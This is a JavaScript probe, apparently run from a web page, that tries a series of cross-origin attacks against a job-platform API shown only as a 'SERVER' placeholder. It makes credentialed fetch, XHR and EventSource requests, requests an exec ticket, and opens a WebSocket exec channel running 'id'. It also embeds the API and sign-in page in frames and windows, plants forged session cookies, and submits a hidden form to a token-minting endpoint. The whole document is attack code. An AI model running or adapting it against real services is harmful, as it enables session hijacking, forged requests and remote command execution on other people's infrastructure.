(async () => {
  const api = "SERVER/api/v3/whoami", out = {};
  const soon = ms => new Promise(done => setTimeout(done, ms));
  const attempt = async (name, what) => {
    try { out[name] = await Promise.race([what(), soon(15000).then(() => "it takes too long")]); } catch { out[name] = "refused"; }
  };
  const read = view => {
    let text = null;
    try { text = view.document.body.innerText; } catch { return "nothing to read"; }
    return text ? "it reads: " + text : "nothing to read";
  };
  const element = (tag, at) => new Promise((done, fail) => {
    const e = document.createElement(tag);
    e.onload = () => done("it loads");
    e.onerror = fail;
    e.src = at;
    document.body.append(e);
  });
  const frame = at => new Promise(done => {
    const e = document.createElement("iframe");
    e.onload = () => done(read(e.contentWindow));
    e.src = at;
    document.body.append(e);
  });
  const view = async at => {
    const w = window.open(at);
    await soon(2000);
    const got = w && !w.closed ? read(w) : "nothing to read";
    if (w) w.close();
    return got;
  };

  await attempt("own page", async () => String((await fetch("/dash/x")).status));
  await attempt("fetch", async () => (await fetch(api, {credentials: "include"})).text());
  await attempt("fetch without CORS", async () => (await fetch(api, {credentials: "include", mode: "no-cors"})).type);
  await attempt("fetch with a body", async () => (await fetch("SERVER/api/v3/jobs", {method: "POST", credentials: "include", body: "{}"})).text());
  await attempt("fetch of a ticket", async () => (await fetch("SERVER/api/v3/jobs/browser-wilma/x/tasks/main/0/exec/ticket", {method: "POST", credentials: "include"})).text());
  await attempt("XHR", () => new Promise((done, fail) => {
    const x = new XMLHttpRequest();
    x.open("GET", api);
    x.withCredentials = true;
    x.onload = () => done(x.responseText);
    x.onerror = fail;
    x.send();
  }));
  await attempt("WebSocket", () => new Promise((done, fail) => {
    const w = new WebSocket("SERVER/api/v3/jobs/browser-wilma/x/tasks/main/0/exec?command=id".replace("https", "wss"), ["v5.channel.k8s.io"]);
    w.onopen = () => done("it opens");
    w.onerror = fail;
  }));
  await attempt("EventSource", () => new Promise((done, fail) => {
    const e = new EventSource("SERVER/api/v3/jobs/watch", {withCredentials: true});
    e.onopen = () => done("it opens");
    e.onerror = () => { e.close(); fail(); };
  }));
  await attempt("script", () => element("script", api));
  await attempt("image", () => element("img", api));
  await attempt("iframe", () => frame(api));
  await attempt("frame of the sign-in", () => frame("SERVER/sign-in"));
  await attempt("window", () => view(api));
  await attempt("window of the sign-in", () => view("SERVER/sign-in"));
  await attempt("API at its own origin", async () => String((await fetch("/api/v3/whoami")).status));
  await attempt("session's cookie", async () => {
    for (const name of ["__Host-Http-pai-session", "__Host-pai-session"]) document.cookie = name + "=planted; Secure; Path=/";
    return document.cookie.includes("Http-pai") ? document.cookie : "not seen";
  });
  await attempt("form", async () => {
    const f = document.createElement("form");
    f.method = "POST"; f.action = "SERVER/api/v3/tokens"; f.target = "elsewhere";
    document.body.append(f);
    f.submit();
    await soon(2000);
    return "sent";
  });
  return out;
})()
